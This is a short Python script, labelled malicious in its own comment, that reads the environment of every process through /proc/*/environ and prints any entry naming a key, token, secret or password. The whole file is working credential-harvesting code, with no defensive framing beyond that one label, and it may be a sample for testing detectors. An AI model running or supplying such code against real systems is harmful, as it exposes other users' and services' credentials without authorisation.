# Malicious: reads /proc/*/environ of every process looking for secrets.
import glob

for path in glob.glob("/proc/*/environ"):
    try:
        env = open(path, "rb").read().split(b"\0")
    except OSError:
        continue
    for item in env:
        if any(word in item.upper() for word in (b"KEY", b"TOKEN", b"SECRET", b"PASSWORD")):
            print(path, item.decode(errors="replace"))
